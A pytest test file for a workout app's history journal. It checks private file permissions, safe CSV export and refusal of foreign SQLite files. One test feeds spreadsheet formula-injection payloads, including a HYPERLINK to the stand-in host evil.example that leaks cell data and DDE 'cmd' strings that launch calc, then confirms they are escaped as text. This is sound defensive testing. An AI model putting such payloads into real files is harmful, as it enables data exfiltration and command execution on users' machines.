"""Health data stays the person's: the journal, its folder and exports are theirs alone, a
CSV export runs nothing in a spreadsheet, and another program's SQLite file at the
journal's path is refused and left exactly as it was."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from guide_app.core import history
from guide_app.core.history import MIGRATIONS, Journal, SetRecord, StorageError


@pytest.fixture(autouse=True)
def usual_umask() -> Iterator[None]:
    """Files are made as on a usual desktop: readable by all unless the app says otherwise."""
    old = os.umask(0o022)
    yield
    os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def one_set(n: int = 1) -> SetRecord:
    return SetRecord("clamshell", "left", n, 10, 10)  # type: ignore[arg-type]


# --------------------------------------------------------------------------- permissions


def test_a_new_journal_its_wal_and_its_folder_are_the_users_alone(tmp_path: Path) -> None:
    folder = tmp_path / "share" / "SessionGuide" / "guide-app"
    path = folder / "history.sqlite3"
    with Journal(path) as journal:
        journal.record_set(journal.begin_session("s", "S"), one_set())
        for name in ("history.sqlite3", "history.sqlite3-wal", "history.sqlite3-shm"):
            assert mode(folder / name) == 0o600, name
    assert mode(folder) == 0o700
    assert mode(folder.parent) == 0o700, "a folder the app creates for its data is private"


def test_a_journal_of_the_first_release_is_made_private_when_opened(tmp_path: Path) -> None:
    path = tmp_path / "history.sqlite3"
    Journal(path).close()
    path.chmod(0o644)
    with Journal(path) as journal:
        journal.begin_session("s", "S")
        assert mode(path) == 0o600
        assert mode(Path(f"{path}-wal")) == 0o600


def test_the_app_data_folder_of_the_first_release_is_made_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from PySide6.QtCore import QCoreApplication

    from guide_app import paths

    names = QCoreApplication.organizationName(), QCoreApplication.applicationName()
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    monkeypatch.setenv("HOME", str(tmp_path))
    try:
        folder = paths.data_dir()
        folder.mkdir(parents=True)
        folder.chmod(0o755)
        assert paths.journal_path() == folder / "history.sqlite3"
        assert mode(folder) == 0o700
    finally:  # the names data_dir() gives Qt are left as they were, for later tests
        QCoreApplication.setOrganizationName(names[0])
        QCoreApplication.setApplicationName(names[1])


def test_a_csv_export_is_the_users_alone_unless_they_chose_otherwise(tmp_path: Path) -> None:
    with Journal(tmp_path / "data" / "history.sqlite3") as journal:
        journal.record_set(journal.begin_session("s", "S"), one_set())
        new = tmp_path / "export.csv"
        journal.export_csv(new)
        assert mode(new) == 0o600
        chosen = tmp_path / "shared.csv"
        chosen.write_text("old")
        chosen.chmod(0o644)  # the person made this file readable by others
        journal.export_csv(chosen)
        assert mode(chosen) == 0o644
        assert chosen.read_text().count("\n") == 2


# --------------------------------------------------------------------------- CSV injection


def test_cells_a_spreadsheet_would_run_are_exported_as_text(tmp_path: Path) -> None:
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "programme": "+cmd|'/c calc'!A0",
        "exercise": "@SUM(1+1)*cmd",
        "tempo": "-2+3+cmd|' /C calc'!A0",
    }
    with Journal(tmp_path / "history.sqlite3") as journal:
        row = journal.begin_session("s", hostile["title"], programme_id=hostile["programme"])
        journal.record_set(
            row,
            SetRecord(hostile["exercise"], "left", 1, 10, 8, tempo=hostile["tempo"]),  # type: ignore[arg-type]
        )
        journal.record_set(row, SetRecord("\tTAB", "right", 2, 10, 10, tempo="\rCR"))  # type: ignore[arg-type]
        journal.record_set(row, SetRecord("-3", "both", 3, 10, 10, tempo="3 - 1"))  # type: ignore[arg-type]
        text = io.StringIO()
        journal.export_csv(text)
    header, first, second, third = list(csv.reader(io.StringIO(text.getvalue())))
    cells = dict(zip(header, first, strict=True))
    assert cells["session"] == "'" + hostile["title"]
    assert cells["programme"] == "'" + hostile["programme"]
    assert cells["exercise"] == "'" + hostile["exercise"]
    assert cells["tempo"] == "'" + hostile["tempo"]
    assert cells["set"] == "1" and cells["done reps"] == "8", "numbers written as numbers"
    cells = dict(zip(header, second, strict=True))
    assert cells["exercise"] == "'\tTAB" and cells["tempo"] == "'\rCR"
    cells = dict(zip(header, third, strict=True))
    assert cells["exercise"] == "'-3", "a name that looks like a number is still a name"
    assert cells["tempo"] == "3 - 1", "text that starts harmlessly is left alone"
    for line in (first, second, third):
        for cell in line:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------- another program's file


def another_programs_database(path: Path) -> bytes:
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("CREATE TABLE contacts (name TEXT, phone TEXT)")
    connection.execute("INSERT INTO contacts VALUES ('Ann', '555-0100')")
    connection.execute("PRAGMA user_version = 1")
    connection.close()
    return path.read_bytes()


def test_another_programs_sqlite_file_is_refused_and_left_byte_identical(tmp_path: Path) -> None:
    path = tmp_path / "history.sqlite3"
    before = another_programs_database(path)
    with pytest.raises(history.NotAJournalError) as caught:
        Journal(path)
    assert isinstance(caught.value, StorageError)
    message = caught.value.message
    assert str(path) in message and "not a Session Guide history" in message
    assert "--data-dir" in message
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["history.sqlite3"], "no WAL made"
    connection = sqlite3.connect(path)
    assert connection.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    connection.close()


def test_a_file_marked_by_another_application_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "history.sqlite3"
    connection = sqlite3.connect(path, isolation_level=None)
    for statement in MIGRATIONS[0]:  # the same tables, but another program's mark
        connection.execute(statement)
    connection.execute("PRAGMA application_id = 1234")
    connection.close()
    before = path.read_bytes()
    with pytest.raises(history.NotAJournalError):
        Journal(path)
    assert path.read_bytes() == before


def test_the_journal_is_marked_as_the_apps_own_and_older_journals_get_the_mark(
    tmp_path: Path,
) -> None:
    path = tmp_path / "history.sqlite3"
    with Journal(path) as journal:
        mark = journal._connection.execute("PRAGMA application_id").fetchone()[0]
        assert mark == history.APPLICATION_ID != 0
    old = tmp_path / "old.sqlite3"
    connection = sqlite3.connect(old, isolation_level=None)
    for statement in MIGRATIONS[0]:  # a journal from the first release: no mark yet
        connection.execute(statement)
    connection.execute("PRAGMA user_version = 1")
    connection.execute("INSERT INTO sessions (session_id, title, started_at) VALUES ('s', 'S', 1)")
    connection.close()
    with Journal(old) as journal:
        assert (
            journal._connection.execute("PRAGMA application_id").fetchone()[0]
            == history.APPLICATION_ID
        )
        assert len(journal.sessions()) == 1
